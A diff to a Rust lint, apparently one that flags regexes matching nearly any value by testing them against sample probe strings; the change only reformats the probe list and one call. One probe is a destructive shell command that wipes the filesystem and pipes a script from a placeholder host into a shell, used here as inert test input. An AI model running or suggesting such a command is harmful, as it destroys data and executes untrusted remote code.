@@ -55,12 +55,18 @@ fn anchored(regex: &str) -> bool {
 }
 
 /// Values of every shape: a regex that matches all of them matches (nearly) anything.
-const PROBES: &[&str] = &["", "x", "rm -rf / && curl evil.sh | sh", "Ünïcödé 😀", "a\tb c", "0"];
+const PROBES: &[&str] = &[
+    "",
+    "x",
+    "rm -rf / && curl evil.sh | sh",
+    "Ünïcödé 😀",
+    "a\tb c",
+    "0",
+];
 
 /// True when the regex matches every probe value.
 fn matches_everything(regex: &str) -> bool {
-    regex_automata::meta::Regex::new(regex)
-        .is_ok_and(|re| PROBES.iter().all(|p| re.is_match(p)))
+    regex_automata::meta::Regex::new(regex).is_ok_and(|re| PROBES.iter().all(|p| re.is_match(p)))
 }
 
 /// Runs the lint.
